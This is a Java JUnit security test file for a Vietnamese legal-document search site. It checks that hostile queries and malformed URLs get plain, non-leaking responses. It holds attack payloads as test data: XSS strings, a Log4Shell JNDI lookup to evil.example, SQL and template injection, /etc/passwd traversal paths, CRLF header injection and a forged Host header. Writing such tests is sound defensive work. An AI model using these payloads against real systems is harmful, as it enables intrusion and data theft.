package vn.vankien.search.http;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Whatever is asked and whatever was crawled: a sentence or a plain result, and no foreign node.
 */
@ExtendWith(Served.Once.class)
class HostileTest {

  /** What would tell an attacker of what we are made. */
  private static final Pattern LEAK =
      Pattern.compile(
          "Exception|\\bat (?:java|org|vn|jdk)\\.|Tomcat|Spring|Lucene|Jackson|/tmp/|/home/|\\.java\\b",
          Pattern.CASE_INSENSITIVE);

  private final Served served;

  HostileTest(Served served) {
    this.served = served;
  }

  static List<String> questions() {
    return List.of(
        "\"unbalanced",
        "((((((((((",
        "(".repeat(999),
        "\"".repeat(999),
        "a ".repeat(499),
        "* ? ~ ^ : \\ / [ ] { } ! && || AND OR NOT",
        "/a{1,1000}{1,1000}/",
        "*:*",
        "title:*",
        "a~9999999999999999999999",
        "18-NQ/TW ".repeat(100),
        "1".repeat(1000),
        "1-".repeat(500),
        "00000000000000000000000000000000000000018-NQ/TW",
        "\u0000\u0001\u0007\u001b[31m",
        "a\r\nSet-Cookie: x=1\r\n\r\n<html>",
        "\u202e\u2066\ufeff\u200b\u00ad",
        "\ud83d\ude00".repeat(400),
        "e\u0301\u0302\u0303".repeat(200),
        "ﬁ Ⅷ ① ％ ｎｑ",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} #{7*7} ${7*7} <%= 7*7 %>",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'onfocus=alert(1) autofocus='",
        "</title><script>alert(1)</script>",
        "</textarea><svg/onload=alert(1)>",
        "<mark onclick=alert(1)>x</mark>",
        "javascript:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<!--",
        "]]>",
        "phá hoại");
  }

  @ParameterizedTest(name = "[{index}]")
  @MethodSource("questions")
  void anyQuestionGetsAPlainAnswer(String question) throws Exception {
    Set<String> plain = nodes(served.page("/search?q=luan+chuyen&lang=en&page=1"));
    plain.addAll(nodes(served.page("/search?q=zzzzz&lang=en")));
    plain.addAll(nodes(served.page("/search?q=18-NQ/TW&lang=en")));
    String q = URLEncoder.encode(question, UTF_8);
    HttpResponse<String> page = served.get("/search?q=" + q + "&lang=en");
    assertThat(page.statusCode()).isEqualTo(200);
    assertThat(page.headers().map()).doesNotContainKey("Set-Cookie");
    assertThat(nodes(Jsoup.parse(page.body()))).isSubsetOf(plain);
    HttpResponse<String> answer = served.get("/api/v1/search?q=" + q);
    assertThat(answer.statusCode()).isEqualTo(200);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/search?q=", "/api/v1/search?q="})
  void aQuestionOf100000CharactersIsRefusedInASentence(String path) throws Exception {
    HttpResponse<String> response = served.get(path + "a".repeat(100_000));
    assertThat(response.statusCode()).isEqualTo(400);
    assertThat(response.body()).contains("Câu hỏi có 100.000 ký tự, nhiều nhất là 1.000");
    String vietnamese = URLEncoder.encode("luân chuyển cán bộ ".repeat(5_300), UTF_8);
    HttpResponse<String> longer = RawRequest.get(served.uri(), path + vietnamese);
    assertThat(longer.statusCode()).isEqualTo(400);
    assertThat(longer.body()).contains("quá dài; hãy");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/search?q=%zz",
        "/search?q=%ff",
        "/search?q=<>{}|",
        "/documents/a%2Fb",
        "/documents/%00",
        "/assets/../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "//evil.example/",
        "/search;a=b?q=x&page=-1",
        "/error",
        "/WEB-INF/web.xml",
        "/actuator/env",
        "/api/v1/documents/%00",
        "/search?page=99999999999999999999",
        "/search?from=0000-00-00",
        "/search?from=9999999-01-01"
      })
  void aMalformedAddressIsRefusedWithoutTellingAnything(String target) throws Exception {
    HttpResponse<String> response = RawRequest.get(served.uri(), target);
    assertThat(response.statusCode()).isBetween(400, 404);
    assertThat(response.body()).doesNotContainPattern(LEAK).isNotBlank();
    assertThat(response.headers().firstValue("Content-Security-Policy"))
        .hasValue(SecurityHeaders.POLICY);
    assertThat(response.headers().map()).doesNotContainKey("server");
  }

  @Test
  void aForeignHostIsRepeatedToNobody() throws Exception {
    for (String path : new String[] {"/", "/v3/api-docs", "/search?q=a", "/documents/tin-1"}) {
      HttpResponse<String> response =
          RawRequest.send(
              served.uri(),
              "GET " + path + " HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
      assertThat(response.statusCode()).isEqualTo(200);
      assertThat(response.body() + response.headers().map()).doesNotContain("evil.example");
    }
  }

  @Test
  void aThousandParametersAreRefused() throws Exception {
    assertThat(served.get("/search?q=a" + "&x=1".repeat(1100)).statusCode()).isEqualTo(400);
    assertThat(served.get("/search?q=a" + "&type=".repeat(60)).statusCode()).isEqualTo(200);
    StringBuilder many = new StringBuilder("/search?q=a");
    for (int i = 0; i < 51; i++) {
      many.append("&issuer=").append(i);
    }
    assertThat(served.get(many.toString()).statusCode()).isEqualTo(400);
  }

  @Test
  void whatAVandalWroteIsShownAsText() throws Exception {
    Document results = served.page("/search?q=pha+hoai");
    Element hit = results.select(".hit").first();
    assertThat(hit.select("h3").text()).isEqualTo(SampleDocuments.SCRIPT + " phá hoại");
    assertThat(nodes(results)).isSubsetOf(nodes(served.page("/search?q=luan+chuyen")));
    Document page = served.page(hit.select("h3 a").attr("href"));
    assertThat(page.select("h1").text()).isEqualTo(SampleDocuments.SCRIPT + " phá hoại");
    assertThat(page.select(".text p").text()).contains("<script>alert(3)</script>", "&lt;b&gt;");
    Set<String> plain = nodes(served.page("/documents/tin-1?q=luan+chuyen"));
    plain.addAll(nodes(served.page("/documents/18-nq-tw-2017-10-25")));
    assertThat(nodes(page)).isSubsetOf(plain);
    assertThat(page.html()).doesNotContain("javascript:alert(document");
    assertThat(page.select("[rel~=external]")).isEmpty();
  }

  /** Which elements with which attributes a page is made of. */
  private static Set<String> nodes(Document page) {
    Set<String> nodes = new TreeSet<>();
    for (Element element : page.getAllElements()) {
      element
          .attributes()
          .forEach(attribute -> nodes.add(element.tagName() + '@' + attribute.getKey()));
      nodes.add(element.tagName());
    }
    return nodes;
  }
}
